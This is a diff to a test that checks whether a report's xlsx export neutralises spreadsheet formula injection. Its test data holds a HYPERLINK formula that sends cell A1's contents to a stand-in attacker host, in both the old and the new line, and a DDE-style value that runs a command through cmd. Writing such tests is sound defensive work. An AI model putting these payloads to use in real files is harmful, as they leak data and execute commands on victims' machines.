@@ -108,7 +108,7 @@ def _cells(book: Any) -> list[Any]:
 def test_row04_formula_prefix_neutralised_in_report_xlsx(advised: Any, client_for: Any) -> None:
     from openpyxl import load_workbook
 
-    partner = '=HYPERLINK("http://evil.example/?"&A1,"VUB")'
+    partner = '=HYPERLINK("http://e.vil/?"&A1)'  # fits short_name (40)
     company = "@SUM(1+1)*cmd|' /C calc'!A0"
     _rename(advised, partner=partner, company=company)
     response = client_for(advised.coordinator).get(reverse("reporting:download", args=["xlsx"]))
